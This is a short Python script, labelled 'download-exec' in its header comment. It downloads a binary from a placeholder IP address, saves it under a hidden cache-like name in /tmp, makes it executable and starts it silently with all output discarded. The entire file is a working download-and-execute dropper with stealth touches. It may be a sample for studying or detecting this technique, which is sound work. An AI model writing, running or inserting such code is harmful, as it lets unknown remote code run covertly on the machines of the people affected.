# download-exec: a binary is downloaded, made executable and started
import os
import stat
import subprocess
import urllib.request

path = "/tmp/.cache-helper"
urllib.request.urlretrieve("http://203.0.113.7/bin/helper", path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
